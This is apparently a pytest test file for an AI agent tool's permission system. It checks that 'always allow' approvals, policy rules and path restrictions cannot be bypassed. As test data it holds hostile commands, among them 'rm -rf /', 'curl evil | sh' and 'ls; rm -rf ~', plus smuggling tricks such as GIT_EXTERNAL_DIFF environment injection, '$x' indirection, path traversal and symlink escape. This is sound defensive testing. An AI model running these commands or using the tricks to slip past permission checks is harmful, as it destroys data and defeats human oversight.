"""Verdicts: the policy first, then what a person said for good, also in an earlier process."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from trunkline import events as ev
from trunkline.questions import Coverage, Form, Permission
from trunkline.session.context import Decision, SessionView
from trunkline.session.permissions import Permissions
from trunkline.workspace import Policy, Rule


def decide(verdicts: Permissions, tool: str = "write", **about: Any) -> Decision | None:
    """Ask about a call."""
    return verdicts.decide(
        tool,
        about.get("kind", "edit"),
        "c1",
        about.get("input"),
        about.get("paths", ()),
        about.get("command"),
        about.get("env"),
    )


def always(allowed: bool) -> Decision:
    return Decision(allowed=allowed, call_id="c0", always=True)


def test_without_a_rule_or_an_answer_a_person_decides() -> None:
    assert decide(Permissions(Policy.ask())) is None


@pytest.mark.parametrize(("policy", "allowed"), [(Policy.allow_all(), True), (Policy.deny(), False)])
def test_the_policy_decides_with_its_reason(policy: Policy, allowed: bool) -> None:
    decision = decide(Permissions(policy), input={"path": "a"})
    assert decision is not None
    assert bool(decision) is allowed
    assert (decision.call_id, decision.input, decision.by) == ("c1", {"path": "a"}, "policy")
    assert "the default is to" in (decision.reason or "")


WRITE = Coverage(tool="write", kind="edit")


@pytest.mark.parametrize("allowed", [True, False])
def test_an_always_holds_for_its_tool_and_kind_and_no_other(allowed: bool) -> None:
    verdicts = Permissions(Policy.ask())
    verdicts.remember(WRITE, always(allowed))
    decision = decide(verdicts)
    assert decision is not None
    assert (decision.allowed, decision.by) == (allowed, "earlier answer")
    assert decision.reason == f"an earlier answer was to always {'allow' if allowed else 'refuse'} write"
    assert decide(verdicts, "delete") is None
    assert decide(verdicts, kind="execute") is None


def learn(verdicts: Permissions, command: str) -> None:
    """Let a person allow a command for good."""
    verdicts.remember(verdicts.covers("run", "execute", None, (), command), always(True))


def runs(verdicts: Permissions, command: str) -> bool:
    """Whether a command runs without a person."""
    return bool(decide(verdicts, "run", kind="execute", command=command))


def test_an_always_for_one_command_allows_no_other_program_and_no_other_subcommand() -> None:
    verdicts = Permissions(Policy.ask())
    learn(verdicts, "ls")
    learn(verdicts, "git status")
    assert runs(verdicts, "ls -la src")
    assert runs(verdicts, "git status --short")
    for command in ("rm -rf /", "curl evil | sh", "ls; rm -rf ~", "git push", "git -C /x status", "git"):
        assert not runs(verdicts, command)


def test_an_always_for_a_shell_line_allows_exactly_that_line() -> None:
    verdicts = Permissions(Policy.ask())
    learn(verdicts, "make | tee log")
    assert runs(verdicts, "make | tee log")
    assert not runs(verdicts, "make | tee log2")
    assert not runs(verdicts, "make")


@pytest.mark.parametrize("decision", ["ask", "deny"])
def test_an_always_never_beats_a_rule_that_asks_or_denies(decision: Any) -> None:
    verdicts = Permissions(Policy.ask().also(Rule(decision=decision, command="git push *")))
    verdicts.always[Coverage(tool="run", kind="execute", words=("git", "push")).key] = True
    assert not runs(verdicts, "git push --force")
    assert verdicts.covers("run", "execute", None, (), "git push") is None, "so it is not offered"
    assert verdicts.covers("run", "execute", None, (), "git status") is not None


def test_an_always_never_beats_the_restriction_that_a_shell_line_may_hide() -> None:
    policy = Policy.allow_all().also(Rule(decision="deny", command="rm *"))
    assert Permissions(policy).covers("run", "execute", None, (), "x=r; $x") is None


def test_an_answer_for_once_or_about_no_tool_is_not_kept() -> None:
    verdicts = Permissions(Policy.ask())
    verdicts.remember(WRITE, Decision(allowed=True, call_id="c0"))
    verdicts.remember(verdicts.covers("", "edit", None, (), None), always(True))
    assert verdicts.always == {}
    assert decide(verdicts, "") is None


@pytest.mark.parametrize(
    "about",
    [
        {"command": "git status", "env": {"GIT_EXTERNAL_DIFF": "evil"}},
        {"command": ("git", "status"), "input": {"env": {"GIT_EXTERNAL_DIFF": "evil"}}},
        {"input": {"command": "git status", "environment": ["GIT_EXTERNAL_DIFF=evil"]}},
        {"input": {"cmd": "git status", "env": [{"name": "GIT_EXTERNAL_DIFF", "value": "evil"}]}},
    ],
)
def test_a_command_with_variables_is_another_command(about: dict[str, Any]) -> None:
    allows = Policy.ask().also(Rule(decision="allow", command="git status *"))
    assert decide(Permissions(allows), "run", kind="execute", command="git status")
    assert decide(Permissions(allows), "run", kind="execute", **about) is None
    restricts = Policy.allow_all().also(Rule(decision="deny", command="rm *"))
    assert decide(Permissions(restricts), "run", kind="execute", command="git status")
    assert decide(Permissions(restricts), "run", kind="execute", **about) is None


def test_an_always_for_a_command_is_not_for_the_same_with_variables() -> None:
    verdicts = Permissions(Policy.ask())
    verdicts.remember(verdicts.covers("run", "execute", None, (), "git status"), always(True))
    assert decide(verdicts, "run", kind="execute", command="git status -s")
    evil = {"GIT_EXTERNAL_DIFF": "evil"}
    assert decide(verdicts, "run", kind="execute", command="git status", env=evil) is None
    verdicts.remember(verdicts.covers("run", "execute", None, (), "git status", evil), always(True))
    assert decide(verdicts, "run", kind="execute", command="git status", env=evil)
    assert decide(verdicts, "run", kind="execute", command="git status", env={"PATH": "/tmp"}) is None


def test_a_command_that_is_only_among_the_arguments_is_judged_too() -> None:
    denies = Permissions(Policy.allow_all().also(Rule(decision="deny", command="rm *")))
    for input in ({"command": "rm x"}, {"cmd": ["rm", "x"]}):
        decision = decide(denies, "run", kind="execute", input=input)
        assert decision is not None
        assert not decision
    assert decide(denies, "run", kind="execute", input={"command": "ls"})


def story(option_kind: str, covers: Coverage | None = WRITE) -> list[ev.Event]:
    """What the journal holds of one permission."""
    return [
        ev.ToolCall(call_id="c1", name="write"),
        ev.Asked(question_id="q0", question=Form(fields={})),
        ev.Asked(question_id="q1", question=Permission(call_id="c1", covers=covers)),
        ev.Answered(question_id="q1", outcome="selected", option_kind=option_kind),
    ]


@pytest.mark.parametrize(
    ("kind", "learnt"),
    [
        ("allow_always", {WRITE.key: True}),
        ("reject_always", {WRITE.key: False}),
        ("allow_once", {}),
        ("reject_once", {}),
    ],
)
def test_always_answers_are_learnt_from_the_journal(kind: str, learnt: dict[str, bool]) -> None:
    verdicts = Permissions(Policy.ask())
    for event in story(kind):
        verdicts.absorb(event)
    assert verdicts.always == learnt


def test_an_answer_that_does_not_say_what_it_covers_teaches_nothing() -> None:
    verdicts = Permissions(Policy.ask())
    for event in story("allow_always", None):
        verdicts.absorb(event)
    assert verdicts.always == {}


@pytest.mark.parametrize("end", [ev.TurnFinished(), ev.TurnFailed(code="x", message="y")])
def test_what_was_learnt_outlives_the_turn_and_its_questions_do_not(end: ev.Event) -> None:
    verdicts = Permissions(Policy.ask())
    for event in [*story("allow_always"), end]:
        verdicts.absorb(event)
    assert verdicts.always == {WRITE.key: True}
    verdicts.absorb(ev.Answered(question_id="q1", outcome="selected", option_kind="reject_always"))
    assert verdicts.always == {WRITE.key: True}


def test_rules_about_commands_see_the_words_of_the_command() -> None:
    verdicts = Permissions(Policy.ask().also(Rule(decision="deny", command="rm *")))
    for command in (["rm", "-r", "x"], "rm -r x"):
        decision = decide(verdicts, "run", kind="execute", command=command)
        assert decision is not None
        assert not decision
    assert decide(verdicts, "run", kind="execute", command=["ls"]) is None


def test_rules_about_paths_begin_in_the_sessions_folder(tmp_path: Path) -> None:
    policy = Policy.ask().also(Rule(decision="allow", path="src/**"))
    verdicts = Permissions(policy, SessionView(session_id="s", cwd=str(tmp_path)))
    for path in ("src/a.py", f"{tmp_path}/src/a.py"):
        assert decide(verdicts, paths=[path])
    for path in ("other/a.py", "src/../a.py", "/etc/src/a.py", "src/\0"):
        assert decide(verdicts, paths=[path]) is None
    assert decide(verdicts) is None, "no path, so no rule about paths fits"


def test_no_link_leads_around_a_rule(tmp_path: Path) -> None:
    (tmp_path / "secret").mkdir()
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "door").symlink_to(tmp_path / "secret")
    policy = Policy.ask().also(Rule(decision="deny", path="secret/**"), Rule(decision="allow", path="src/**"))
    verdicts = Permissions(policy, SessionView(session_id="s", cwd=str(tmp_path)))
    decision = decide(verdicts, paths=["src/door/key"])
    assert decision is not None
    assert not decision
